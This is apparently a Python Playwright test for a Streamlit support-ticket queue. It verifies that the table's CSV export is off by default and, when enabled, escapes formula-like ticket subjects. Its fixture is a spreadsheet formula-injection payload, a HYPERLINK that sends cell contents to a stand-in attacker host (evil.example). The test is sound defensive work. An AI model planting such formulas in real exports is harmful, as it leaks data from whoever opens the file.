"""The queue table's own toolbar in headless Chromium, with a customer's spreadsheet formula as a ticket subject.

As shipped (`client.disableDataExport`), the toolbar has no "Download as CSV"; on a deployment that switches it back
on, the file the button writes holds the subject with the neutralising quote (ui/tables.py), never a live formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect, sync_playwright
from sqlalchemy.orm import Session, sessionmaker

from engine.core.settings import Settings
from engine.operators.auth import create_first_admin
from engine.operators.exports import FORMULA_PREFIXES
from tests.app_process import app_environment, streamlit_app
from tests.browser.conftest import CHROMIUM_ARGS, go
from tests.factories import new_ticket
from tests.pages.conftest import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.slow]
SUBJECT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
# Chromium would open its native save dialog (File System Access API), which Playwright cannot drive; refused, the
# toolbar falls back to a plain download link with the same CSV (Streamlit's useDataExporter writes both).
NO_SAVE_DIALOG = "window.showSaveFilePicker = () => Promise.reject(new Error('no save dialog in this test'));"


def queue_toolbar(url: str, page: Page) -> None:
    """Sign in, open the queue and hover its table, so its toolbar shows."""
    page.goto(url)
    page.get_by_label("Username").fill("ada")
    page.get_by_role("textbox", name="Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    go(page, "Queue", "Queue")
    grid = page.get_by_test_id("stDataFrame").first
    expect(grid.get_by_text("=HYPERLINK", exact=False).first).to_be_attached()
    grid.hover()
    expect(page.get_by_test_id("stElementToolbar").first.get_by_role("button", name="Search")).to_be_visible()


@pytest.mark.parametrize("export_off", [True, False], ids=["as-shipped", "export-switched-on"])
def test_the_queue_tables_csv_download_never_carries_a_live_formula(
    settings: Settings, session_factory: sessionmaker[Session], tmp_path: Path, export_off: bool
) -> None:
    with session_factory.begin() as session:
        create_first_admin(session, "ada", PASSWORD)
    new_ticket(session_factory, settings, subject=SUBJECT)
    env = app_environment(settings)
    if not export_off:
        env["STREAMLIT_CLIENT_DISABLE_DATA_EXPORT"] = "false"
    with streamlit_app(env, tmp_path / "streamlit.log") as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1440, "height": 900}, accept_downloads=True)
        page.set_default_timeout(30_000)
        page.add_init_script(NO_SAVE_DIALOG)
        queue_toolbar(url, page)
        download_button = page.get_by_test_id("stElementToolbar").first.get_by_role("button", name="Download as CSV")
        if export_off:
            expect(download_button).to_have_count(0)
            return
        with page.expect_download() as started:
            download_button.click()
        saved = tmp_path / "queue.csv"
        started.value.save_as(saved)
        browser.close()
    rows = list(csv.reader(io.StringIO(saved.read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + SUBJECT in cells
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
